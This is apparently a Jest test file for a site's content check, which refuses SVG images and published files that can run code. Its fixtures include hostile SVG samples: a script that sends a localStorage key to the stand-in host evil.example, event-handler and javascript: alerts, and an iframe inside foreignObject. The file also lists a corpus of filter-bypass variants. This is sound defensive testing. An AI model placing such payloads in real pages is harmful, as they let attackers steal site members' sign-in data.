/**
 * @jest-environment node
 *
 * content:check reads every SVG under public/, at any depth, and the build every SVG in the export:
 * a picture passes, an image that can run code fails with its file named. The corpus in
 * hostile-svgs/ (issue 41's four that got past the old pattern-matching check, and the classic ones)
 * is refused file by file; the real public/ folder passes.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { contentCollections } from '@/tools/checks/collections';
import { contentCheckReport } from '@/tools/checks/checkReport';
import { displayPath } from '@/lib/content/core';
import { checkPublicFiles, unpublishableFiles, unsafePublishedFiles } from '@/lib/content/publishedFiles';
import { checkPublicSvgs, findUnsafeSvgs, svgProblems } from '@/lib/content/publicSvgs';
import { messagesOf } from './problems';

const picture = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n${inside}\n</svg>\n`;
const hostile = {
  script: picture('<script>fetch("https://evil.example/?" + localStorage.key(0))</script>'),
  'event handler': picture('<rect width="10" height="10" onmouseover="alert(1)"/>'),
  'javascript: address': picture('<use href="  JAVASCRIPT:alert(1)"/>'),
  foreignObject: picture('<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
};

let [project, publicDir] = ['', ''];
beforeEach(() => {
  project = fs.mkdtempSync(path.join(os.tmpdir(), 'public-svgs-'));
  publicDir = path.join(project, 'public');
  fs.mkdirSync(path.join(publicDir, 'images/sponsors/old'), { recursive: true });
  fs.writeFileSync(path.join(publicDir, 'images/sponsors/lab.svg'), picture('<circle cx="5" cy="5" r="4" fill="#336"/>'));
  fs.writeFileSync(path.join(publicDir, 'images/notes.txt'), '<script>not an image</script>');
});
afterEach(() => fs.rmSync(project, { recursive: true, force: true }));

describe('SVG images under public/', () => {
  it('lets a picture pass', () => {
    expect(findUnsafeSvgs(publicDir)).toEqual([]);
  });

  it.each(Object.entries(hostile))('refuses an image holding a %s, naming the file and the line', (_, svg) => {
    const file = path.join(publicDir, 'images/sponsors/old/logo.svg');
    fs.writeFileSync(file, svg);
    expect(findUnsafeSvgs(publicDir)).toEqual([expect.objectContaining({ file: displayPath(file), line: 2 })]);
  });

  it('tells the officer what was found, why it matters and what to do', () => {
    fs.writeFileSync(path.join(publicDir, 'logo.SVG'), hostile.script);
    const [line] = contentCheckReport(findUnsafeSvgs(publicDir), 'content', false).errors.slice(1);
    expect(line).toBe(
      `  ${displayPath(path.join(publicDir, 'logo.SVG'))}:2: NTC022 this image holds a <script> element (<script>): code in an image opened on this site can read members' sign-in. Export the SVG again without scripts or interactive parts (a plain or optimised SVG), or use a PNG or WebP image instead`,
    );
  });

  it("fails content:check with the path from the project's folder", () => {
    fs.writeFileSync(path.join(publicDir, 'images/sponsors/lab.svg'), hostile.foreignObject);
    const cwd = process.cwd();
    process.chdir(project);
    try {
      expect(messagesOf(checkPublicSvgs)).toEqual([
        expect.stringMatching(
          /^public\/images\/sponsors\/lab\.svg:2: NTC025 this image holds a piece of web page, .* \(<foreignObject>, and 1 more\)/,
        ),
      ]);
    } finally {
      process.chdir(cwd);
    }
    expect(contentCollections.map((c) => c.load)).toContain(checkPublicSvgs);
  });

  it('passes on the real public/ folder', () => {
    expect(findUnsafeSvgs()).toEqual([]);
    expect(unpublishableFiles()).toEqual([]);
  });
});

const CORPUS = path.join(__dirname, 'hostile-svgs');
const corpus = fs.readdirSync(CORPUS).filter((name) => name.endsWith('.svg'));

describe('the hostile SVG corpus', () => {
  it("holds issue 41's four and the classic ones", () => {
    for (const name of ['script-non-ascii-prefix', 'nested-svg-onload-non-ascii-prefix', 'xhtml-iframe-srcdoc', 'dtd-entity-script'])
      expect(corpus).toContain(`${name}.svg`);
    for (const name of [
      'script',
      'on-attribute',
      'foreign-object',
      'javascript-entity-encoded',
      'use-external-file',
      'animate-href',
      'set-href',
    ])
      expect(corpus).toContain(`${name}.svg`);
  });

  it.each(corpus)('refuses %s', (name) => {
    expect(svgProblems(fs.readFileSync(path.join(CORPUS, name), 'utf8'), name)).not.toEqual([]);
  });

  it('is refused by the build in an export, named by the public/ file it was copied from', () => {
    const out = path.join(project, 'out');
    fs.cpSync(publicDir, out, { recursive: true });
    for (const name of corpus) fs.copyFileSync(path.join(CORPUS, name), path.join(publicDir, 'images', name));
    fs.cpSync(path.join(publicDir, 'images'), path.join(out, 'images'), { recursive: true });
    fs.writeFileSync(path.join(out, '.hidden.svg'), hostile.script);
    const cwd = process.cwd();
    process.chdir(project);
    try {
      const files = new Set(unsafePublishedFiles('out', 'public').map((p) => p.file));
      expect([...files].sort()).toEqual([...corpus.map((name) => `public/images/${name}`), 'out/.hidden.svg'].sort());
    } finally {
      process.chdir(cwd);
    }
  });
});

describe('files under public/', () => {
  it('refuses a page, an XML file or a script, dot-files and upper case included', () => {
    for (const name of ['page.html', 'feed.XML', 'images/x.xhtml', '.well-known/a.js', 'no-extension']) {
      fs.mkdirSync(path.dirname(path.join(publicDir, name)), { recursive: true });
      fs.writeFileSync(path.join(publicDir, name), '<script>alert(1)</script>');
    }
    expect(unpublishableFiles(publicDir).map((p) => path.relative(publicDir, p.file))).toEqual(
      ['.well-known/a.js', 'images/x.xhtml', 'feed.XML', 'no-extension', 'page.html']
        .map((f) => path.relative(publicDir, path.join(publicDir, f)))
        .sort(),
    );
    expect(unpublishableFiles(publicDir)[0].message).toMatch(
      /^a \.js file is not published: a page, an XML file or a script opened on this site can read members' sign-in$/,
    );
    expect(contentCollections.map((c) => c.load)).toContain(checkPublicFiles);
  });

  it("lets pictures, videos, PDFs, fonts, text and data through, the image copies' record included", () => {
    for (const name of ['a.webp', 'b.PNG', 'c.mp4', 'd.pdf', 'e.woff2', 'robots.txt', 'generated/manifest.json']) {
      fs.mkdirSync(path.dirname(path.join(publicDir, name)), { recursive: true });
      fs.writeFileSync(path.join(publicDir, name), '');
    }
    expect(unpublishableFiles(publicDir)).toEqual([]);
  });
});
